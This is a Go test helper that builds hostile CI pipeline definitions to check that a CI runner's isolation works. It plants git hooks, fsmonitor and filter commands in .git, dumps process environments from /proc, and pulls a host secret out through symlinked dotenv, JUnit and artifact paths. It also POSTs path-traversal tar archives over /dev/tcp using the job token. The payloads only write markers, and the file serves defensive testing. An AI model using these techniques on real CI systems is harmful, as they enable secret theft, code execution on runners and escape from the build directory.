package e2e

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/rand"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// The hostile pipelines of hostile_test.go, what they read and plant, and a normal one.

// hostPlace holds what jobs must never reach on the host: a secret in dotenv form and a
// JUnit report holding it, in a directory only root may enter, and an empty directory, also
// root's, that code planted by a job writes its marks to if the host ever runs it.
type hostPlace struct {
	secretDir, secret, markers string
}

func newHostPlace(t *testing.T) hostPlace {
	t.Helper()
	h := hostPlace{secretDir: t.TempDir(), markers: t.TempDir(), secret: "host-secret-" + rand.Text()}
	writeFiles(t, h.secretDir, map[string]string{
		"secret.env": "HOST_SECRET=" + h.secret + "\n",
		"report.xml": `<testsuite name="` + h.secret + `"><testcase name="` + h.secret + `"/></testsuite>` + "\n",
	})
	for _, d := range []string{h.secretDir, h.markers} {
		if err := os.Chmod(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	return h
}

// marks lists the marks planted code left on the host.
func (h hostPlace) marks(t *testing.T) map[string]string {
	t.Helper()
	entries, err := os.ReadDir(h.markers)
	if err != nil {
		t.Fatal(err)
	}
	m := map[string]string{}
	for _, e := range entries {
		b, _ := os.ReadFile(filepath.Join(h.markers, e.Name()))
		m[e.Name()] = string(b)
	}
	return m
}

// say prints word from a script without the word in the echoed command line.
func say(word string) string { return fmt.Sprintf(`echo "%s""%s"`, word[:3], word[3:]) }

// hostileCI is the hostile pipeline, for one runner slot (jobs one after the other in one
// build dir). Its first run (PHASE unset) plants hooks, an fsmonitor, filters and more in .git
// (plant-git), which the next job's checkout (check-fresh) would run; dumps every environment
// it can reach (env-dump); names host files as dotenv, JUnit and artifact paths (escape);
// uploads archives that leave the build dir (smuggle-*, shell jobs only); and ends with a job
// that gets plant-git's .git back as artifacts and cache and adds a hooksPath to it
// (check-env), which the second run's checkout (PHASE=again: check-fresh alone) would run.
func hostileCI(h hostPlace, image string, docker bool, spy []string) string {
	up := strings.Repeat("../", 30) + strings.TrimPrefix(h.secretDir, "/")
	defaultImage := ""
	if image != "" {
		defaultImage = "default:\n  image: " + image + "\n"
	}
	ci := fmt.Sprintf(`stages: [plant, check, attack, restore]
%[1]svariables:
  MARKERS: %[2]s
  SECRET_DIR: %[3]s
  SPY: %[4]q
.first:
  rules:
    - if: $PHASE != "again"

plant-git:
  stage: plant
  extends: .first
  script:
    - |
      mkdir -p .git/hooks .git/info evilhooks
      for h in post-checkout post-merge post-rewrite pre-commit reference-transaction post-index-change pre-auto-gc; do
        printf '#!/bin/sh\necho "%%s uid $(id -u) in $PWD" >> %%s/hook\n' "$h" "$MARKERS" > ".git/hooks/$h"
        printf '#!/bin/sh\necho "%%s uid $(id -u) in $PWD" >> %%s/hookspath\n' "$h" "$MARKERS" > "evilhooks/$h"
        chmod +x ".git/hooks/$h" "evilhooks/$h"
      done
    - |
      cat >> .git/config <<EOF
      [core]
          fsmonitor = "echo fsmonitor >> $MARKERS/fsmonitor; false"
          sshCommand = "echo ssh >> $MARKERS/config; false"
          pager = "echo pager >> $MARKERS/config; cat"
      [filter "evil"]
          smudge = "echo smudge >> $MARKERS/filter; cat"
          clean = "echo clean >> $MARKERS/filter; cat"
      [diff "evil"]
          command = "echo diff >> $MARKERS/config; false"
      EOF
      echo '* filter=evil diff=evil' > .git/info/attributes
      echo planted > planted.txt
    - cat .git/config; ls -l .git/hooks
    - %[5]s
  artifacts:
    untracked: true
    paths: [.git/]
  cache:
    key: planted
    untracked: true
    paths: [.git/]

env-dump:
  stage: attack
  extends: .first
  script:
    - id
    - echo ENV-START; env; echo ENV-END
    - tr '\0' '\n' < /proc/$PPID/environ || true
    - tr '\0' '\n' < /proc/1/environ || true
    - for e in /proc/[0-9]*/environ; do tr '\0' '\n' < "$e"; done 2>/dev/null | head -c 200000 || true
    - for f in $SPY; do echo "== $f"; head -c 200000 "$f" || true; done
    - ls -la $SPY || true
    - %[6]s

escape:
  stage: attack
  extends: .first
  script:
    - ln -s "$SECRET_DIR/secret.env" link.env
    - ln -s /proc/self/environ environ.env
    - ln -s /etc/hostname hostname.env
    - mkdir -p d && ln -s "$SECRET_DIR" d/up
    - ln -s "$SECRET_DIR/secret.env" leak.txt
    - ln -s "$SECRET_DIR" leakdir
    - ln -s / rootlink
    - ln -s "$SECRET_DIR/report.xml" junit.xml
    - mkdir -p reports && ln -s "$SECRET_DIR" reports/up
    - mkdir -p out && echo "made by the job" > out/ok.txt
    - echo "OWN_DOTENV=mine" > own.env
    - %[7]s
  artifacts:
    paths:
      - out/
      - leak.txt
      - leakdir/
      - leakdir/secret.env
      - rootlink%[3]s/
      - %[8]s/secret.env
      - %[3]s/secret.env
      - reports/
    reports:
      dotenv:
        - link.env
        - environ.env
        - hostname.env
        - d/up/secret.env
        - %[8]s/secret.env
        - %[3]s/secret.env
        - own.env
      junit:
        - junit.xml
        - leakdir/report.xml
        - reports/up/*.xml
        - %[8]s/report.xml
        - %[3]s/report.xml

check-fresh:
  stage: check
  dependencies: []
  script:
    - ls -la . .git .git/hooks || true
    - |
      if [ -e .git/hooks/post-checkout ] || [ -e evilhooks ] || [ -e planted.txt ] || [ -e .git/info/attributes ] || grep -q evil .git/config; then
        %[9]s
      else
        %[10]s
      fi

check-env:
  stage: restore
  extends: .first
  dependencies: [plant-git, env-dump, escape]
  cache:
    key: planted
    paths: [.git/]
    policy: pull
  script:
    - echo ENV-START; env; echo ENV-END
    - cat leak.txt leakdir/secret.env reports/up/secret.env 2>&1 || true
    - ls -la . .git/hooks || true
    - printf '[core]\n    hooksPath = evilhooks\n' >> .git/config
    - %[11]s
`, defaultImage, h.markers, h.secretDir, strings.Join(spy, " "), say("PLANTED"), say("DUMPED"),
		say("ESCAPED"), up, say("PLANTED-FOUND"), say("FRESH-CHECKOUT"), say("CHECKED"))
	if image == "" && !docker {
		for _, name := range []string{"dotdot", "absolute", "link", "relative-link"} {
			ci += fmt.Sprintf(smuggleCI, name, say("SMUGGLED"))
		}
	}
	return ci
}

// smuggleCI uploads evil-%[1]s.tar.gz (evilArchives) as the job's own artifacts with its
// job token, for the runner to extract on the host for the job after (through bash's
// /dev/tcp: busybox wget sends a file only up to its first NUL). Only shell jobs run it: a
// Docker job cannot reach the server at 127.0.0.1.
const smuggleCI = `
smuggle-%[1]s:
  stage: attack
  extends: .first
  script:
    - |
      exec 3<>"/dev/tcp/$CI_SERVER_HOST/$CI_SERVER_PORT"
      printf 'POST /api/v1/jobs/%%s/artifacts?kind=archive HTTP/1.1\r\nHost: %%s\r\nAuthorization: Bearer %%s\r\nContent-Type: application/gzip\r\nContent-Length: %%s\r\nConnection: close\r\n\r\n' "$CI_JOB_ID" "$CI_SERVER_HOST" "$CI_JOB_TOKEN" "$(wc -c < evil-%[1]s.tar.gz)" >&3
      cat evil-%[1]s.tar.gz >&3
      head -n 1 <&3 | tee status.txt
    - grep -q " 201 " status.txt
    - %[2]s

check-smuggled-%[1]s:
  stage: restore
  extends: .first
  dependencies: [smuggle-%[1]s]
  allow_failure: true
  script:
    - ls -la . lnk || true
`

// evilArchives are artifacts archives (by name) whose entries leave the directory they are
// extracted in, each to a file archive-NAME in the markers directory: by "..", by an absolute
// name, through a link to that directory it makes first, and through a relative link that
// climbs to it.
func evilArchives(t *testing.T, markers string) map[string]string {
	t.Helper()
	up := strings.Repeat("../", 30) + strings.TrimPrefix(markers, "/")
	reg := func(name string) *tar.Header { return &tar.Header{Name: name, Typeflag: tar.TypeReg} }
	link := func(name, to string) *tar.Header {
		return &tar.Header{Name: name, Typeflag: tar.TypeSymlink, Linkname: to}
	}
	out := map[string]string{}
	for name, entries := range map[string][]*tar.Header{
		"dotdot":        {reg("ok.txt"), reg(up + "/archive-dotdot")},
		"absolute":      {reg("ok.txt"), reg(markers + "/archive-absolute")},
		"link":          {reg("ok.txt"), link("lnk", markers), reg("lnk/archive-link")},
		"relative-link": {reg("ok.txt"), link("lnk", up), reg("lnk/archive-relative-link")},
	} {
		var b bytes.Buffer
		gz := gzip.NewWriter(&b)
		tw := tar.NewWriter(gz)
		for _, h := range entries {
			body := ""
			if h.Typeflag == tar.TypeReg {
				body = "written by the archive " + name + "\n"
				h.Size, h.Mode = int64(len(body)), 0o644
			} else {
				h.Mode = 0o777
			}
			if err := tw.WriteHeader(h); err != nil {
				t.Fatal(err)
			}
			if _, err := io.WriteString(tw, body); err != nil {
				t.Fatal(err)
			}
		}
		if err := tw.Close(); err != nil {
			t.Fatal(err)
		}
		if err := gz.Close(); err != nil {
			t.Fatal(err)
		}
		out[name] = b.String()
	}
	return out
}

// cacheCI is a job that shows what its cache deps held and leaves content in it.
const cacheCI = `deps:
  cache:
    key: deps
    paths: [vendor/]
  script:
    - if [ -f vendor/lib ]; then echo "restored [$(cat vendor/lib)]"; else echo "no cache yet"; fi
    - mkdir -p vendor && echo "$CONTENT" > vendor/lib
`

// withImage gives ci a default image, when image is not "".
func withImage(ci, image string) string {
	if image == "" {
		return ci
	}
	return "default:\n  image: " + image + "\n" + ci
}

// normalCI is what worked before the attacks were stopped: artifacts, a dotenv report, a
// cache and needs.
const normalCI = `stages: [build, test]
build:
  stage: build
  script:
    - mkdir -p out vendor
    - echo "artifact from build" > out/result.txt
    - echo "BUILD_VERSION=1.2.3" > build.env
    - echo "cached dep" > vendor/dep
  artifacts:
    paths: [out/]
    reports:
      dotenv: build.env
  cache:
    key: deps
    paths: [vendor/]
test:
  stage: test
  needs: [build]
  cache:
    key: deps
    paths: [vendor/]
    policy: pull
  script:
    - test "$(cat out/result.txt)" = "artifact from build"
    - test "$BUILD_VERSION" = 1.2.3
    - test "$(cat vendor/dep)" = "cached dep"
    - echo "ALL-""GOOD"
`

// serviceCI is a job in image %s with a service in image %s.
const serviceCI = `service:
  stage: test
  needs: []
  image: %s
  services:
    - name: %s
      alias: web
  script:
    - wget -qO- http://web/
`
